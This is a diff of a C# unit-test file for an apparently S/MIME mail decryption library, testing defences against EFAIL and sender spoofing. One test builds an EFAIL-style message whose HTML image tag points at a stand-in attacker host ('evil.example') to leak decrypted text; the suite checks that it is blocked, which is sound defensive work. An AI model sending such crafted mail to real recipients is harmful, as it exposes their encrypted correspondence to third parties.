@@ -197,7 +197,8 @@ public sealed class OpeningTests : IDisposable
         // EFAIL, direct exfiltration: an attacker's HTML around the ciphertext.
         var inner = Encoding.ASCII.GetString(await EncryptAsync(Encoding.ASCII.GetBytes(Entity), Bob, "-aes-256-gcm"));
         var part = inner[inner.IndexOf("MIME-Version", StringComparison.Ordinal)..];
-        var mail = "From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
+        var mail = "From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+            + "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
             + $"\r\n--b\r\n{part}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";
         var (outcome, output) = await Sealed.OpenAsync(Encoding.ASCII.GetBytes(mail), Keys(Bob));
         Assert.Contains(Assert.IsType<OpenOutcome.Opened>(outcome).Mail.Verdicts, v => v.Text.Contains("left out", StringComparison.Ordinal));
@@ -212,6 +213,15 @@ public sealed class OpeningTests : IDisposable
         var text = Encoding.ASCII.GetString(output);
         Assert.DoesNotContain("boss@", text);
         Assert.EndsWith("\r\n\r\nPay.\r\n", text);
+    }
+
+    [Fact]
+    public async Task Other_sender_under_unsigned_header_protection_is_bad()
+    {
+        var mail = await EncryptAsync("From: boss@example.org\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nPay.\r\n"u8.ToArray(), Bob, "-aes256");
+        var opened = await BadAsync(Encoding.ASCII.GetString(mail));
+        Assert.Contains(opened.Verdicts, v => v.Text.Contains("another sender", StringComparison.Ordinal));
+        Assert.Null(opened.Sender);
     }
 
     [Fact]
